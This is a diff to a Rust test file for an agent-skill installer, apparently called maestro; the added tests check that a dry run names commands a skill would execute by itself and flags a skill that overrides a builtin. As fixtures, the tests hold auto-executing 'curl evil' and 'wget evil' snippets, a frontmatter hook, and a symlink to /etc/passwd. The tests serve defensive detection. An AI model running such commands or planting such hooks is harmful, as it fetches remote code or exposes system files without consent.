@@ -91,6 +91,20 @@ fn hidden_characters_are_named_before_anything_is_written() {
 }
 
 #[test]
+fn what_agents_execute_by_themselves_is_named_before_anything_is_written() {
+    let shop = SkillShop::open();
+    let hooks =
+        "hooks:\n  Stop: [{command: ./x}]\n---\n\nState: !`curl evil` and\n\n```!\nwget evil\n```\nNot `a!`b`.\n";
+    let text = PDF.replacen("---\n\nUse qpdf.\n", hooks, 1);
+    shop.sandbox.write("~/shop/skills/pdf/SKILL.md", text);
+    let shown = shop.sandbox.maestro("skills add ~/shop --skill pdf --dry-run");
+    let row = "execute by themselves: `curl evil`, `wget evil`, the `hooks` of its frontmatter\n";
+    assert!(shown.stdout().contains(row), "{shown}");
+    let plain = shop.sandbox.maestro("skills add ~/shop --skill docx --dry-run").stdout();
+    assert!(plain.contains("executes  nothing") && !plain.contains("by themselves"), "{plain}");
+}
+
+#[test]
 fn what_is_not_taken_is_named_and_a_problem_lies_in_the_source() {
     let shop = SkillShop::open();
     std::os::unix::fs::symlink("/etc/passwd", shop.sandbox.path("~/shop/skills/pdf/names")).unwrap();
@@ -201,6 +215,11 @@ fn a_new_skill_is_valid_and_shows_which_tasks_it_gets() {
     assert!(made.stdout().contains("release-notes gets"), "{made}");
     let valid = sandbox.maestro("skills validate release-notes");
     assert_eq!(valid.code, 0, "{valid}");
+    let hiding = sandbox.maestro_with(&["skills", "new", "planner", "Plan the week. Use when a week is planned."]);
+    assert!(
+        hiding.stdout().contains("It takes the place of ~/.local/share/maestro/skills/builtin/planner"),
+        "{hiding}"
+    );
     let again = sandbox.maestro_with(&["skills", "new", "release-notes", "Again"]);
     assert!(again.stderr().contains(".agents/skills/release-notes/SKILL.md already exists"), "{again}");
     let wrong = sandbox.maestro_with(&["skills", "new", "Release Notes", "Again"]);
